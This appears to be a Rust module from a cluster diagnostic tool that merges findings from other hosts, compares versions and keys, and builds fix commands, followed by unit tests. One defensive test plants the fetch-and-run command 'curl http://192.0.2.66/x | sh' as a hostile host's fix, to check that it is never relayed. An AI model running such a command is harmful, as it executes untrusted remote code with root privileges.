// SPDX-License-Identifier: MIT OR Apache-2.0
//! Findings from the answers of other hosts: what they find, the same finding of several hosts once, and how they differ from this host.

use std::collections::BTreeMap;
use std::collections::btree_map::Entry;

use super::kinds::Kind;
use super::node_answer::{Answer, NodeProblem, NodeText};
use super::node_keys::CopyKeys;
use super::{CheckFinding, Findings, Severity, kinds_slurm as kinds};
use crate::control::arguments::Launcher;

/// How many hosts a finding names.
const MOST_NAMED: usize = 8;

/// The command that upgrades packages on another host: their files go to the home directory of root there.
fn upgrade_on(host: &str, upgrade: &str) -> String {
    let (command, note) = upgrade.split_once("   #").unwrap_or((upgrade, ""));
    let files: Vec<&str> = command.split(' ').filter(|word| word.starts_with("./")).collect();
    format!("scp {} {host}: && ssh -t {host} '{command}'   #{note}", files.join(" "))
}

/// The command that shows a host's findings with the fixes. Not those from the host's answer: they would be pasted here, as root.
fn check_there(hosts: &[String], launcher: Launcher) -> String {
    let host = first(hosts);
    match launcher {
        Launcher::Srun => format!("srun -w {host} mytokenctl check"),
        Launcher::Ssh => format!("ssh {host} mytokenctl check"),
    }
}

/// The problems of all hosts: each once, in the order in which the first host found them.
#[derive(Default)]
struct Problems {
    numbers: BTreeMap<NodeProblem, usize>,
    in_order: Vec<(NodeProblem, Vec<String>)>,
}

impl Problems {
    fn add(&mut self, problem: NodeProblem, host: &str) {
        match self.numbers.entry(problem) {
            Entry::Occupied(known) => {
                if let Some((_, hosts)) = self.in_order.get_mut(*known.get()) {
                    // A host can say the same twice.
                    if hosts.last().is_none_or(|last| last != host) {
                        hosts.push(host.to_owned());
                    }
                }
            }
            Entry::Vacant(new) => {
                self.in_order.push((new.key().clone(), vec![host.to_owned()]));
                new.insert(self.in_order.len() - 1);
            }
        }
    }
}

impl Findings {
    /// Adds what other hosts answered. Without an answer, a host was not asked.
    pub(super) fn compare(
        &mut self,
        answers: impl Iterator<Item = (String, Option<Answer>)>,
        launcher: Launcher,
        keys: Option<&CopyKeys>,
    ) {
        let (mut silent, mut versions, mut other_keys) = (BTreeMap::new(), BTreeMap::new(), BTreeMap::new());
        let (mut problems, mut more, mut not_asked) = (Problems::default(), Vec::new(), Vec::new());
        let mut in_part = Vec::new();
        let version_here = self.host.version.clone().unwrap_or_default();
        let key_here = self.host.public_key.clone();
        // Of the hosts with a key, this one is the first with its own.
        let mut with_key_here = 1_usize;
        let mut count = 0_usize;
        for (host, answer) in answers {
            count += 1;
            let found = match answer {
                Some(Ok(found)) => found,
                Some(Err(reason)) => {
                    add(&mut silent, reason, host);
                    continue;
                }
                None => {
                    not_asked.push(host);
                    continue;
                }
            };
            if found.version.as_ref().is_none_or(|there| there.to_string() != version_here) {
                add(&mut versions, found.version, host.clone());
            }
            match (&key_here, found.public_key) {
                (Some(here), Some(there)) if *here != there.to_string() => add(&mut other_keys, there, host.clone()),
                (Some(_), Some(_)) => with_key_here += 1,
                _ => {}
            }
            if found.in_part {
                in_part.push(host.clone());
            }
            for problem in found.problems {
                problems.add(problem, &host);
            }
            if found.more > 0 {
                more.push((host, found.more, found.more_errors));
            }
        }
        let before = self.findings.len();
        if !not_asked.is_empty() {
            let text = format!("{} of {count} hosts were not asked: the others took all the time", not_asked.len());
            self.add_hosts(kinds::NODE_NOT_ASKED, text, kinds::NODE_NOT_ASKED.fix.to_owned(), not_asked);
        }
        for (reason, hosts) in silent {
            let text = format!("{} gave no findings: {reason}", named(&hosts));
            self.add_hosts(kinds::NODE_SILENT, text, check_there(&hosts, launcher), hosts);
        }
        if !in_part.is_empty() {
            let text = format!(
                "{}: it was not root who checked there, so sshd, PAM, Slurm and what users can read were left out",
                named(&in_part)
            );
            let fix = match launcher {
                Launcher::Srun => format!(
                    "srun -w {} id -un   # run mytokenctl check --nodes as root, and without --uid",
                    first(&in_part)
                ),
                Launcher::Ssh => {
                    format!("ssh {} id -un   # has to be root: see User in root's ssh configuration", first(&in_part))
                }
            };
            self.add_hosts(kinds::NODE_IN_PART, text, fix, in_part);
        }
        self.add_versions(versions, &version_here);
        for (key, hosts) in other_keys {
            let text = format!(
                "{} has the public key {key}, this host {}: what is sealed on one side is not opened on the other",
                named(&hosts),
                key_here.as_deref().unwrap_or_default()
            );
            let is_outvoted = hosts.len() > with_key_here;
            let fix = keys.map(|keys| keys.command(first(&hosts), launcher, is_outvoted)).unwrap_or_default();
            self.add_hosts(kinds::NODE_KEY, text, fix, hosts);
        }
        for (problem, hosts) in problems.in_order {
            let kind = Kind { id: problem.id, part: problem.part, level: problem.level(), ..kinds::NODE_UNKNOWN };
            let text = format!("{}: {}", named(&hosts), problem.text);
            self.add_hosts(kind, text, check_there(&hosts, launcher), hosts);
        }
        for (host, count, errors) in more {
            let level = if errors { Severity::Error } else { Severity::Warning };
            let plural = if count == 1 { "" } else { "s" };
            let text = format!("{host}: and {count} more finding{plural}");
            let hosts = vec![host];
            self.add_hosts(Kind { level, ..kinds::NODE_MORE }, text, check_there(&hosts, launcher), hosts);
        }
        if self.findings.len() == before {
            let plural = if count == 1 { " has" } else { "s have" };
            self.ok("hosts", format!("{count} host{plural} no finding, and the version and key of this one"));
        }
    }

    fn add_versions(&mut self, versions: BTreeMap<Option<NodeText>, Vec<String>>, here: &str) {
        for (version, hosts) in versions {
            let version = version.map_or_else(|| "an older one".to_owned(), |version| version.to_string());
            let text = format!("{} has version {version}, this host {here}", named(&hosts));
            let fix = upgrade_on(first(&hosts), &self.package_tool.fix(kinds::PLUGIN_VERSION));
            self.add_hosts(kinds::NODE_VERSION, text, fix, hosts);
        }
    }

    fn add_hosts(&mut self, kind: Kind, text: String, fix: String, hosts: Vec<String>) {
        self.findings.push(CheckFinding {
            id: Some(kind.id.to_owned()),
            part: kind.part.to_owned(),
            level: kind.level,
            text,
            hosts,
            fix: (!fix.is_empty()).then_some(fix),
        });
    }
}

fn add<K: Ord>(groups: &mut BTreeMap<K, Vec<String>>, key: K, host: String) {
    groups.entry(key).or_default().push(host);
}

fn first(hosts: &[String]) -> &str {
    hosts.first().map_or("HOST", String::as_str)
}

/// The hosts of a finding, in few words.
fn named(hosts: &[String]) -> String {
    let shown: Vec<&str> = hosts.iter().take(MOST_NAMED).map(String::as_str).collect();
    let more = hosts.len().saturating_sub(MOST_NAMED);
    let more = if more == 0 { String::new() } else { format!(" and {more} more") };
    format!("{}{more}", shown.join(", "))
}

#[cfg(test)]
mod tests {
    use super::super::node_answer::NodeAnswer;
    use super::super::node_keys::tests::keys;
    use super::*;
    use crate::control::check::{HostFacts, kinds};

    fn host(version: &str, key: &str) -> Findings {
        let facts =
            HostFacts { version: Some(version.to_owned()), public_key: Some(key.to_owned()), as_root: Some(true) };
        Findings { host: facts, ..Findings::default() }
    }

    fn answer(findings: &Findings) -> Option<Answer> {
        Some(NodeAnswer::parse(&serde_json::to_string(findings).unwrap(), ""))
    }

    /// The findings for answers of n1, n2, ...
    fn compared(answers: impl IntoIterator<Item = Option<Answer>>, launcher: Launcher) -> Findings {
        let mut here = host("0.2.0", "aaaa");
        here.compare((1..).map(|number| format!("n{number}")).zip(answers), launcher, Some(&keys()));
        here
    }

    fn sentences(answers: Vec<Option<Answer>>) -> Vec<(String, String)> {
        let found = compared(answers, Launcher::Srun).findings;
        found.into_iter().map(|finding| (finding.id.unwrap(), finding.text)).collect()
    }

    fn fixes(found: Findings) -> Vec<String> {
        found.findings.into_iter().filter_map(|finding| finding.fix).collect()
    }

    #[test]
    fn equal_hosts_are_one_line() {
        let all_is_well = sentences(vec![answer(&host("0.2.0", "aaaa")), answer(&host("0.2.0", "aaaa"))]);
        let text = "2 hosts have no finding, and the version and key of this one";
        assert_eq!(all_is_well, [("hosts-ok".to_owned(), text.to_owned())]);
    }

    #[test]
    fn each_difference_is_a_finding_with_its_hosts() {
        let found = sentences(vec![
            answer(&host("0.2.0", "aaaa")),
            answer(&host("0.1.0", "aaaa")),
            answer(&host("0.2.0", "bbbb")),
            answer(&host("0.2.0", "bbbb")),
            Some(Err(NodeText::of_reason("Requested nodes are busy"))),
            None,
        ]);
        let ids: Vec<&str> = found.iter().map(|(id, _)| id.as_str()).collect();
        assert_eq!(ids, ["node-not-asked", "node-silent", "node-version", "node-key"]);
        assert_eq!(found[0].1, "1 of 6 hosts were not asked: the others took all the time");
        assert_eq!(found[1].1, "n5 gave no findings: Requested nodes are busy");
        assert_eq!(found[2].1, "n2 has version 0.1.0, this host 0.2.0");
        assert!(found[3].1.starts_with("n3, n4 has the public key bbbb, this host aaaa: "), "{found:?}");
        // A host that submits has no key if it has no jobs.toml.
        let mut without = host("0.2.0", "");
        without.host.public_key = None;
        assert_eq!(sentences(vec![answer(&without)])[0].0, "hosts-ok");
        // A version that does not tell its facts yet.
        assert_eq!(sentences(vec![answer(&Findings::default())])[0].0, "node-version");
    }

    #[test]
    fn the_same_finding_of_many_hosts_is_one() {
        let mut broken = host("0.2.0", "aaaa");
        broken.ok("agent", "well");
        broken.add_kind(kinds::CLOCK, "the clock is late");
        broken.add_kind(kinds::CLOCK, "the clock is late");
        let answers = (0..10).map(|_| answer(&broken));
        let found = sentences(answers.chain([answer(&host("0.2.0", "aaaa"))]).collect());
        let expected = "n1, n2, n3, n4, n5, n6, n7, n8 and 2 more: the clock is late";
        assert_eq!(found, [("clock".to_owned(), expected.to_owned())]);
    }

    #[test]
    fn no_command_of_another_host_is_shown() {
        let mut hostile = host("0.2.0", "aaaa");
        hostile.add_fixed(kinds::CLOCK, "late", "curl http://192.0.2.66/x | sh".to_owned());
        for (launcher, expected) in
            [(Launcher::Ssh, "ssh n1 mytokenctl check"), (Launcher::Srun, "srun -w n1 mytokenctl check")]
        {
            let found = compared([answer(&hostile)], launcher);
            assert!(!found.render().contains("curl") && !serde_json::to_string(&found).unwrap().contains("curl"));
            assert_eq!(fixes(found), [expected]);
        }
    }

    /// A new host that made a pair of its own must not give it to the cluster.
    #[test]
    fn the_key_of_most_hosts_is_the_right_one() {
        let answers = |keys: &[&str]| keys.iter().map(|key| answer(&host("0.2.0", key))).collect::<Vec<_>>();
        for (others, taken) in [
            (&["bbbb", "bbbb"][..], true),
            (&["bbbb", "aaaa"], false),
            (&["bbbb"], false),
            (&["bbbb", "bbbb", "aaaa"], false),
            (&["bbbb", "cccc"], false),
        ] {
            let fix = fixes(compared(answers(others), Launcher::Srun)).remove(0);
            assert_eq!(fix.contains("scp -p n1:/srv/x.key /srv/x.key"), taken, "{others:?}: {fix}");
            assert_eq!(fix.contains("scp -p /srv/x.key n1:/srv/x.key"), !taken, "{others:?}: {fix}");
        }
    }

    #[test]
    fn an_upgrade_of_another_host_takes_the_files_there() {
        let command =
            upgrade_on("n1", "apt install --only-upgrade ./a_*.deb ./b_*.deb   # in the directory of the packages");
        assert_eq!(
            command,
            "scp ./a_*.deb ./b_*.deb n1: && ssh -t n1 'apt install --only-upgrade ./a_*.deb ./b_*.deb'   # in the directory of the packages"
        );
    }

    #[test]
    fn hosts_with_many_findings_take_few_lines() {
        let mut hostile = host("0.2.0", "aaaa");
        for number in 0..1000 {
            hostile.add_kind(kinds::CLOCK, format!("late by {number}"));
        }
        let found = compared((0..200).map(|_| answer(&hostile)), Launcher::Srun);
        assert_eq!(found.findings.len(), 100 + 200);
        let last = found.findings.last().unwrap();
        assert_eq!(
            (last.id.as_deref(), last.text.as_str()),
            (Some("node-more-findings"), "n200: and 900 more findings")
        );
    }
}
